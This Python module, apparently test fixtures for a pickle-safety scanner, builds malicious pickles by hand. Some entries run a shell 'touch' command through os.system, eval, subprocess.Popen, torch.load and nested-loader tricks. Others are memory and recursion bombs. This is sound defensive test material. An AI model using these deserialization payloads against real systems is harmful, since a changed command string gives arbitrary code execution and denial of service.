"""Pickles written by hand, instruction by instruction, as nobody's ``pickle.dumps`` would."""

from __future__ import annotations

import struct


def text(value: str) -> bytes:
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def pickle_of(*instructions: bytes) -> bytes:
    """Return a pickle of a dict with one entry, which ``instructions`` leave on the stack."""
    return b"\x80\x02}" + text("x") + b"".join(instructions) + b"s."


def touching(path: str) -> dict[str, bytes]:
    """Return pickles that would make the file ``path``, by every instruction that calls."""
    system, line = name("os", "system"), text(f"touch {path}")
    code = text(f"open({path!r}, 'w').close()")
    inner = pickle_of(system, line, b"\x85R")
    as_bytes = b"B" + struct.pack("<I", len(inner)) + inner
    return {
        "REDUCE": pickle_of(system, line, b"\x85R"),
        "INST": pickle_of(b"(", line, b"ios\nsystem\n"),
        "OBJ": pickle_of(b"(", system, line, b"o"),
        "NEWOBJ": pickle_of(system, line, b"\x85\x81"),
        "NEWOBJ_EX": pickle_of(system, line, b"\x85}\x92"),
        "STACK_GLOBAL": pickle_of(text("os"), text("system"), b"\x93", line, b"\x85R"),
        "eval": pickle_of(name("builtins", "eval"), code, b"\x85R"),
        "import": pickle_of(
            *(name("builtins", "getattr"), name("builtins", "__import__"), text("os"), b"\x85R"),
            *(text("system"), b"\x86R", line, b"\x85R"),
        ),
        "dotted": pickle_of(text("builtins"), text("eval.__call__"), b"\x93", code, b"\x85R"),
        "nested": pickle_of(
            *(name("functools", "partial"), system, line, b"\x86R"),
            b")R" * 3,
        ),
        "partial, then BUILD": pickle_of(
            *(name("functools", "partial"), system, b"\x85R"),
            *(b"(", system, line, b"\x85}Nt", b"b", b")R"),
        ),
        "__setstate__": pickle_of(
            name("argparse", "Namespace"), b")\x81}", text("__setstate__"), system, b"sb}", b"b"
        ),
        "state of a class": pickle_of(
            *(name("argparse", "Namespace"), b"N}", text("__init__"), system, b"s\x86b"),
            *(line, b"\x85R"),
        ),
        "load_from_bytes": pickle_of(name("torch.storage", "_load_from_bytes"), as_bytes, b"\x85R"),
        "pickle.loads": pickle_of(name("pickle", "loads"), as_bytes, b"\x85R"),
        "torch.load": pickle_of(name("torch", "load"), text(path), b"\x85R"),
        "from_type_v2": pickle_of(
            *(name("torch._tensor", "_rebuild_from_type_v2"), b"(", system),
            *(name("torch", "Tensor"), line, b"\x85", b"}tR"),
        ),
        "reconstructor": pickle_of(
            *(name("copyreg", "_reconstructor"), name("subprocess", "Popen")),
            *(name("builtins", "object"), b"N\x87R"),
            *(b"}", text("args"), line, b"sb"),
        ),
        "OrderedDict of calls": pickle_of(
            *(name("collections", "OrderedDict"), b"]](", text("k"), system, line, b"\x85R", b"e"),
            *(b"a\x85R",),
        ),
        "defaultdict": pickle_of(name("collections", "defaultdict"), system, b"\x85R"),
    }


def bombs() -> dict[str, bytes]:
    """Return small pickles of which something huge could be made."""
    big = b"B" + struct.pack("<I", 100_000) + b"\0" * 100_000
    letters = text("a" * 100_000)
    doubled = b"]q\x010" + b"".join(
        b"](h" + bytes([n, ord("h"), n]) + b"eq" + bytes([n + 1]) + b"0" for n in range(1, 45)
    )
    nested = b"]" * 100_000 + b"a" * 99_999
    encode = name("_codecs", "encode")
    cycle = b"]q\x01h\x01ah\x01a"
    floats = b"(" + b"G" + struct.pack(">d", 1.0)
    return {
        "doubling": pickle_of(doubled, b"h\x2d"),
        "deep": pickle_of(nested),
        "deep tuples": pickle_of(b")" + b"\x85" * 100_000),
        "deep tuple as a key": pickle_of(b"}" + b")" + b"\x85" * 100_000 + b"Ns"),
        "itself": pickle_of(cycle),
        "encoded again and again": pickle_of(
            *(letters, b"q\x010", encode, b"q\x020("),
            b"".join(b"h\x02h\x01" + text("latin1") + b"\x86R" for _ in range(5000)),
            b"l",
        ),
        "copied again and again": pickle_of(
            *(b"](", b"K\x01" * 50_000, b"eq\x010", name("builtins", "list"), b"q\x020("),
            *(b"".join(b"h\x02h\x01\x85R" for _ in range(50_000)), b"l"),
        ),
        "a long number": pickle_of(b"\x8b" + struct.pack("<i", 2**31 - 1)),
        "an array of 8 EB": pickle_of(b"\x8e" + struct.pack("<Q", 2**63)),
        "a byte array of 8 EB": pickle_of(b"\x96" + struct.pack("<Q", 2**63)),
        "a floating key": pickle_of(b"}" + floats[1:] + b"Ns"),
        "bytes": pickle_of(big),
    }
